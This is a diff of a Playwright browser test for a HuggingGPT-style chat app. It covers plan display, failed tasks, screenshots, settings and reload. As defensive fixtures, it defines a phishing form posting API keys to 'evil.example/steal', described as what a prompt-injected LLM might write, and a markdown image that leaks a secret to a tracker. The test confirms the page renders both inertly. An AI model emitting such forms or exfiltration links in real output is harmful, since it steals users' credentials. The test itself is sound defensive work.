@@ -6,7 +6,7 @@ Skips when Chromium or Playwright is missing, unless HUGGINGGPT_REQUIRE_BROWSER=
 
 import contextlib
 import os
-import shutil
+import re
 import threading
 import time
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
@@ -14,6 +14,8 @@ from pathlib import Path
 
 import pytest
 from app_support import app_settings, photo, running_app
+
+from hugginggpt.catalog import Catalog, ModelCard
 
 CHROMIUM = Path("/usr/bin/chromium")
 SCREENSHOTS = Path(__file__).resolve().parent.parent / ".tmp" / "screenshots"
@@ -67,99 +69,151 @@ def beacon():
         server.server_close()
 
 
+def broken_voice_catalog(tiny_catalog, folder: Path) -> Catalog:
+    """The tiny catalog with a text-to-speech model that cannot load: a run's third task fails."""
+    folder.mkdir(exist_ok=True)
+    (folder / "config.json").write_text("{}")
+    voice = ModelCard(
+        id="tiny/vits-broken", task="text-to-speech", path=str(folder), local=True, downloads=700
+    )
+    return Catalog([c for c in tiny_catalog if c.task != "text-to-speech"] + [voice])
+
+
+# What the fake LLM echoes into its answer: a phishing form, as a prompt-injected LLM might write.
+FORM = (
+    '<form action="https://evil.example/steal"><input name="key" placeholder="API key">'
+    "<button>Send</button></form>"
+)
+# For each image the app generated: the text of the chat message just before it (its caption).
+CAPTIONS = """chat => [...chat.querySelectorAll('.bot-row img[src*="/gradio_api/file="]')]
+  .filter(img => !img.src.endsWith('street.png'))
+  .map(img => img.closest('.message').previousElementSibling?.innerText ?? '')"""
+
+
 @pytest.mark.browser
-def test_browser_streams_plan_models_media_and_answer(llm_server, tiny_catalog, tmp_path):
+def test_browser_one_turn_per_request_with_its_plan_drawn_media_captioned_and_a_reload(
+    llm_server, tiny_catalog, tmp_path
+):
     sync_playwright = _browser_or_skip()
     picture = photo(tmp_path / "street.png", (64, 48))
+    catalog = broken_voice_catalog(tiny_catalog, tmp_path / "broken-voice")
     with (
-        running_app(app_settings(llm_server, tmp_path / "ws"), catalog=tiny_catalog) as demo,
+        running_app(app_settings(llm_server, tmp_path / "ws"), catalog=catalog) as demo,
         sync_playwright() as p,
         beacon() as (tracker, hits),
     ):
         browser = p.chromium.launch(executable_path=str(CHROMIUM), headless=True, args=ARGS)
         try:
-            page = browser.new_page(viewport={"width": 1100, "height": 1500})
+            page = browser.new_page(viewport={"width": 1280, "height": 1500})
             page.set_default_timeout(30_000)
             page.goto(demo.local_url)
-            page.locator("#status").get_by_text("LLM:").wait_for()  # the status line names the LLM
+            page.locator("#status").get_by_text("LLM:").wait_for()
             assert "fake-controller at http://127.0.0.1" in page.locator("#status").inner_text()
+            assert not page.locator("#stop").is_visible()  # nothing runs yet
 
             page.locator("#request input[type=file]").set_input_files(str(picture))
             page.locator("#request img").first.wait_for()  # the upload finished: its thumbnail is shown
             box = page.locator("#request textarea")
-            # the request carries a markdown image on another origin, and the fake LLM echoes it
-            box.fill(
-                "[conv-browser] caption this photo, draw the caption and read it aloud "
-                f"![t]({tracker}/t.png?q=secret)"
-            )
+            box.fill("[conv-browser] [reject-once] caption this photo, draw the caption and read it aloud")
             sent = time.perf_counter()
             box.press("Enter")
+            page.locator("#stop").wait_for(state="visible")  # Stop is there while the request runs
 
             chat = page.locator("#chat")
             chat.get_by_text("Plan: 3 tasks").wait_for()
             plan_seconds = time.perf_counter() - sent
             chat.get_by_text("Answer for conv-browser").wait_for()
-            chat.get_by_text("Task 2 · text-to-speech · tiny/vits · done").wait_for()
+            summary = chat.get_by_text(re.compile(r"^3 tasks · 2 models · [\d.]+ s"))
+            summary.wait_for()  # the work folded to one line: tasks, models, seconds
+            assert "✕ failed 1" in summary.locator("..").inner_text()
+            page.locator("#stop").wait_for(state="hidden")
 
-            # the LLM's markdown image became an <img>, and the page's Content-Security-Policy kept the
-            # browser from loading it: no request reached the other origin
+            # one user bubble (text and photo) and one assistant turn for the request
+            assert chat.locator(".user-row").count() == 1 and chat.locator(".bot-row").count() == 1
+            assert chat.locator(".user-row img[src*='/gradio_api/file=']").count() == 1  # the photo
+
+            # each generated image sits under a caption naming its task, model and time
+            captions = chat.evaluate(CAPTIONS)
+            assert len(captions) == 1, captions
+            assert re.match(
+                r"Task 1 · text-to-image · tiny/stable-diffusion · [\d.]+ s — from “", captions[0]
+            )
+
+            # the work opens on a click: the plan drawn as a graph, coloured by state, with its list
+            summary.click()
+            chat.get_by_text("Plan: 3 tasks (after 2 attempts)").click()
+            drawing = chat.locator(".mermaid svg")
+            drawing.wait_for()
+            assert drawing.locator(".node").count() == 3 and drawing.locator(".node.failed").count() == 1
+            assert drawing.locator(".node.done").count() == 2
+            chat.get_by_text("after task 0").first.wait_for()  # the text list, for screen readers
+            chat.get_by_text("attempt 1: task 0 (image-to-text)").wait_for()  # the rejected plan's reason
+            # the failed task is marked failed, its reason one click away
+            failed = chat.locator(".title", has=page.locator(".hg-failed")).filter(has_text="Task 2")
+            assert "Task 2 · text-to-speech · tiny/vits-broken · ✕ failed" in failed.inner_text()
+            failed.click()
+            reason = failed.locator("xpath=following-sibling::*[1]")
+            reason.get_by_text("Failed:").wait_for()
+            assert "Unrecognized model" in reason.inner_text()
+            chat.get_by_text("Trace of this request (JSON)").wait_for()
+
+            SCREENSHOTS.mkdir(parents=True, exist_ok=True)
+            shots = {"desktop": SCREENSHOTS / "app_desktop.png", "phone": SCREENSHOTS / "app_phone.png"}
+            chat.get_by_text("Plan: 3 tasks (after 2 attempts)").scroll_into_view_if_needed()
+            page.screenshot(path=str(shots["desktop"]), full_page=True)
+            chat.screenshot(path=str(SCREENSHOTS / "app_chat.png"))
+            page.set_viewport_size({"width": 390, "height": 844})
+            time.sleep(0.5)  # let the layout settle
+            assert page.evaluate("document.documentElement.scrollWidth") <= 390  # nothing wider than a phone
+            page.screenshot(path=str(shots["phone"]), full_page=True)
+            page.set_viewport_size({"width": 1280, "height": 1500})
+
+            # settings are kept in this browser; the key only when asked
+            page.locator("#settings").get_by_text("Settings", exact=True).click()
+            page.get_by_label("hybrid").check()
+            page.locator("#status").get_by_text("hybrid:").wait_for()
+            page.get_by_label("LLM base URL").fill("ftp://nowhere")
+            page.get_by_label("LLM base URL").blur()
+            page.locator(".field-problem").get_by_text("must start with http://").wait_for()  # at the field
+            page.get_by_label("LLM base URL").fill("")
+            page.get_by_label("LLM base URL").blur()
+            page.locator(".field-problem").get_by_text("must start with http://").wait_for(state="hidden")
+            time.sleep(0.5)  # the browser store takes the last change
+
+            # a reload keeps the conversation and the settings
+            page.reload()
+            chat.get_by_text("Answer for conv-browser").wait_for()
+            assert chat.locator(".user-row").count() == 1 and chat.locator(".bot-row").count() == 1
+            assert len(chat.evaluate(CAPTIONS)) == 1  # its image, still served to this browser
+            page.locator("#settings").get_by_text("Settings", exact=True).click()
+            assert page.get_by_label("hybrid").is_checked()
+
+            # a second request whose answer carries the LLM's form and a markdown image on another origin
+            box.fill(f"[conv-browser] say hello ![t]({tracker}/t.png?q=secret) ECHO: {FORM}")
+            box.press("Enter")
+            chat.get_by_text("Answered without models").wait_for()
+            assert chat.locator(".user-row").count() == 2 and chat.locator(".bot-row").count() == 2
+            # the LLM's form is text, not a form: nothing to type a key into or submit
+            assert chat.locator("form, input, textarea, select, iframe").count() == 0
+            assert chat.locator("button", has_text="Send").count() == 0
+            chat.get_by_text('form action="https://evil.example/steal"', exact=False).first.wait_for()
+            # the LLM's markdown image became an <img>, and the CSP kept the browser from loading it
             injected = chat.locator(f"img[src^='{tracker}']")
-            injected.nth(1).wait_for(
-                state="attached"
-            )  # in the request, and at the end of the streamed answer
+            injected.nth(1).wait_for(state="attached")  # in the request, and in the answer
             settled = (
                 "img => img.complete ? img.naturalWidth : new Promise(done => ['load', 'error'].forEach("
                 "e => img.addEventListener(e, () => done(img.naturalWidth))))"
             )
-            assert injected.last.evaluate(settled) == 0  # the browser settled it: blocked, nothing drawn
-            assert hits == [], hits
+            assert injected.last.evaluate(settled) == 0 and hits == [], hits
 
-            # the generated image: an <img> served by Gradio, other than the uploaded photo
-            images = chat.locator("img[src*='/gradio_api/file=']")
-            sources = [images.nth(i).get_attribute("src") for i in range(images.count())]
-            made = [s for s in sources if not s.endswith("street.png")]
-            assert made and any(s.endswith(".png") for s in made), sources
-            generated = chat.locator(f"img[src='{made[0]}']")
-            assert generated.evaluate("img => img.complete && img.naturalWidth > 0")
-            audio = chat.locator("audio")
-            audio.first.wait_for(state="attached")
-            assert audio.first.get_attribute("src")  # Gradio's player loads the served file into a blob
-            wav = chat.locator("a[href*='/gradio_api/file='][href$='.wav']").first.get_attribute("href")
-            assert page.request.get(wav).body()[:4] == b"RIFF"  # the generated clip, as the page links it
-
-            shots = [tmp_path / "app_browser.png", tmp_path / "app_browser_plan.png"]
-            page.screenshot(path=str(shots[0]), full_page=True)
-
-            # closed boxes open on a click: the readable plan, and the model choice with its Hub link
-            chat.get_by_text("Plan: 3 tasks").click()
-            chat.get_by_text("after task 0").first.wait_for()
-            chat.get_by_text("Task 0 · image-to-text · tiny/blip-base · done").click()
-            link = chat.locator("a[href='https://huggingface.co/tiny/blip-base']")
-            link.first.wait_for()
-            chat.get_by_text("tiny/blip-base is small and runs locally").wait_for()
-            chat.get_by_text("Plan: 3 tasks").scroll_into_view_if_needed()
-            page.screenshot(path=str(shots[1]), full_page=True)
-
-            # the settings panel changes this session's status line
-            page.locator("#settings").get_by_text("Settings", exact=True).click()
-            page.get_by_label("hybrid").check()
-            page.locator("#status").get_by_text("hybrid:").wait_for()
-            assert "top-K 5" in page.locator("#status").inner_text()
-
-            SCREENSHOTS.mkdir(parents=True, exist_ok=True)
-            for shot in shots:
-                shutil.copy(shot, SCREENSHOTS / shot.name)
-            # leaving the page ends the conversation: it is forgotten and its files deleted
-            [conv] = demo.chat_app.conversations.values()
-            page.close()
-            deadline = time.time() + 15
-            while demo.chat_app.conversations and time.time() < deadline:
-                time.sleep(0.1)
-            assert not demo.chat_app.conversations and not conv.workspace.root.exists()
-            print(
-                f"\nbrowser: plan shown {plan_seconds:.2f} s after pressing Enter; "
-                f"screenshots in {SCREENSHOTS}"
-            )
+            # a new conversation starts empty; the earlier one is one pick away
+            page.locator("#new-conversation").click()
+            chat.get_by_text("Answer for conv-browser").first.wait_for(state="detached")
+            page.locator("#earlier").click()
+            page.get_by_role("option", name=re.compile(r"^Conversation of ")).first.click()
+            chat.get_by_text("Answer for conv-browser").first.wait_for()
+            assert len(demo.chat_app.conversations) == 2  # the old one and the new, empty one
+            print(f"\nbrowser: plan shown {plan_seconds:.2f} s after Enter; screenshots in {SCREENSHOTS}")
         except Exception:
             SCREENSHOTS.mkdir(parents=True, exist_ok=True)  # what the page showed when it failed
             with contextlib.suppress(Exception):  # the page may be closed already
